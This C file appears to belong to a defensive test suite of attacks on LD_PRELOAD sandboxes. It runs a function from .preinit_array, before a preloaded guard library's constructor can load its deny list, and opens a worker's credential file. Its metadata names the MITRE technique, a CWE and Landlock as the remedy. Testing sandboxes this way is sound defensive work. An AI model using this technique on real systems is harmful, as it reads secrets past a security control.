// SPDX-License-Identifier: MIT
/*
 * before-constructor.c - earlier than the library that is to watch.
 *
 * Goal:  the worker's credentials, past a preloaded library that sets itself up in a constructor.
 * Means: .preinit_array, the functions of a program that the dynamic linker calls before the
 *        constructors of all libraries, the preloaded one's too. The wrappers are in place by
 *        then; the list of what they should refuse is not.
 */
#include "attacks/preload-evasion/quarry.h"

#include <fcntl.h>

static int fd = -1;
static bool tried;

static void early(int argc, char **argv, char **envp)
{
	struct brief b = { .worker = 0 };

	(void)envp;
	if (argc < 2 || strcmp(argv[1], "--armed"))
		return;
	for (int i = 2; i < argc; i++) {
		if (!strcmp(argv[i], "dry"))
			return;
		if (!strncmp(argv[i], "worker=", 7))
			b.worker = atoi(argv[i] + 7);
	}
	tried = true;
	attempting(&b);
	fd = open(quarry(&b), O_RDONLY | O_CLOEXEC);
}

__attribute__((section(".preinit_array"), used)) static void (*const first)(int, char **,
									    char **) = early;

static enum claim run(const struct brief *b)
{
	if (!tried)
		attempting(b); /* a dry run, which ends here */
	return take(fd, "open before all constructors");
}

const struct attack attack = {
	.effect = "a file that a preloaded library should refuse is read",
	.means = "open(3) from .preinit_array, before the library has read its list",
	.oracle = "secret:environ",
	.id = "LPS-12",
	.attack_id = "T1574.006, CWE-696",
	.remedy = "a decision in the kernel, in force before exec: Landlock",
	.refs = (const char *const[]){ "elf(5)", "System V ABI, DT_PREINIT_ARRAY", NULL },
	.run = run,
};
